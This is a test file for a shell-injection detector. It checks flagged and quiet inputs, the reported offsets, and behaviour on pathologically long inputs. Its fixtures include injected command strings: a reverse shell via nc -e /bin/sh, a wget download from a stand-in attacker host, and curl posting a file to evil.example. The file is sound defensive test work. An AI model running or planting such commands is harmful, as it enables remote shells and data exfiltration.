// Commands that a shell would run if the piece were put into a command line, and commands that people talk of.
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { shellInjection } from '../../../src/detect/shell_injection/detector.ts'
import { attacks, quiet } from './cases.ts'

const find = (text: string) => shellInjection.find({ text, kind: 'value', place: '$.host', undone: [] })

test.each(attacks)('%j is %s', (text, shape) => expect(find(text)?.shape).toBe(shape))

test.each(quiet)('%j stays quiet', (text) => expect(find(text)).toBeNull())

test.each(attacks)('%j has one of the marks', (text) => {
  expect(Array.from(text).some((character) => shellInjection.marks.includes(character))).toBe(true)
})

test('a finding says where', () => {
  expect(find('a b; uname -r; c')).toEqual({ shape: 'chained-command', start: 3, end: 13 })
})

const word = fc.constantFrom(
  'select',
  'the',
  'cat',
  "O'Brien",
  'said',
  '5 > 3',
  '&',
  '"yes"',
  '(no)',
  'id,',
  'sort',
  'more',
)

test('prose in front does not hide a command with its arguments', () => {
  const chained = [
    '; cat /etc/group',
    ' && wget http://evil.example/a',
    ' | nc -e /bin/sh 192.0.2.9 4',
    ' $(curl -d @a evil.example)',
  ]
  fc.assert(
    fc.property(fc.array(word, { maxLength: 30 }), fc.constantFrom(...chained), (words, command) => {
      expect(find(words.join(' ') + command)).not.toBeNull()
    }),
  )
})

test('prose alone stays quiet', () => {
  fc.assert(
    fc.property(fc.array(word), (words) => {
      expect(find(`Then ${words.join(' ')}`)).toBeNull()
    }),
  )
})

test('any text is read without failing, and every place lies in it', () => {
  const piece = fc.constantFrom(
    ';',
    '|',
    '&',
    '$',
    '(',
    ')',
    '{',
    '}',
    '`',
    '\\',
    "'",
    '"',
    '/',
    ' ',
    '\n',
    'IFS',
    'cat',
    'id',
    '-a',
    '<',
    '>',
    ',',
    '/bin/constructor',
    '%',
  )
  fc.assert(
    fc.property(
      fc.oneof(
        fc.array(piece).map((pieces) => pieces.join('')),
        fc.string(),
      ),
      (text) => {
        const finding = find(text)
        if (finding === null) return
        expect(finding.start).toBeGreaterThanOrEqual(0)
        expect(finding.end).toBeGreaterThan(finding.start)
        expect(finding.end).toBeLessThanOrEqual(text.length)
      },
    ),
    { numRuns: 500 },
  )
})

// Read again from every place, a text of this length takes minutes.
test.each(['a;', 'a `b', '$(x', '{a,', 'eval(', "''", ';cat is ', '() {', '$x', '|a ', '\\n/', '%a:'])(
  'a text of nothing but %s is read through once or few times',
  (part) => {
    expect(() => find(part.repeat(200_000 / part.length))).not.toThrow()
  },
)
